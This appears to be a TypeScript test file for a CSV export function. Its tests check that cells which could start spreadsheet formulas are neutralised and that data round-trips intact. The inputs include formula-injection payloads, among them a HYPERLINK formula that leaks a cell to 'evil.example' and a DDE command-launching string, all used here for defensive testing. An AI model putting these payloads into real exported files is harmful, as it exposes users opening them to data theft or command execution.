import fc from "fast-check";
import { expect, test } from "vitest";
import { parseCsv } from "#tests/support/csv";
import { toCsv, toPlainText } from "./export-csv";

test.each([
  "=1+1",
  "+1 818 555 0142",
  "-2",
  "@SUM(A1)",
  "\t=1",
  "\tharmless",
  "\rharmless",
  "\n=1",
  "  =1",
  "\u00a0=1",
  "\u3000=1",
  "\u200b=1",
  "\ufeff=1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  "﹦1",
  '"=1',
  "'=1",
  `=HYPERLINK("https://evil.example?"&A1)`,
  "=cmd|' /C calc'!A0",
])("%j is kept from being a formula", (text) => {
  expect(toPlainText(text)).toBe(`'${text}`);
});

test.each(["", "Ada", "a=b", "1-2", "(818) 555-0142", "34.1866, -118.4487", "a\n=b", "O'Hara"])(
  "%j stays as it is",
  (text) => {
    expect(toPlainText(text)).toBe(text);
  },
);

const hostile = fc.oneof(
  fc.string({ unit: "binary" }),
  fc
    .array(
      fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＠",
        "\t",
        "\r",
        "\n",
        "\r\n",
        " ",
        "\u00a0",
        '"',
        ",",
        ";",
        "a",
      ),
      { maxLength: 6 },
    )
    .map((parts) => parts.join("")),
);

test("whatever stands in a cell comes back, and none begins like a formula", () => {
  const table = fc
    .integer({ min: 1, max: 4 })
    .chain((width) =>
      fc.array(fc.array(hostile, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
    );
  fc.assert(
    fc.property(table, (rows) => {
      const read = parseCsv(toCsv(rows));
      expect(read.map((row) => row.map((cell) => cell.replace(/^'/, "")))).toEqual(
        rows.map((row) => row.map((cell) => cell.replace(/^'/, ""))),
      );
      for (const cell of read.flat()) {
        expect(cell.trimStart().normalize("NFKC")).not.toMatch(/^[=+\-@]/);
        expect(cell).not.toMatch(/^[\t\r]/);
      }
    }),
  );
});

test("rows end with CRLF, and numbers are numbers", () => {
  expect(
    toCsv([
      ["a", 500],
      ['b "c"', -1],
    ]),
  ).toBe('"a",500\r\n"b ""c""",-1\r\n');
});
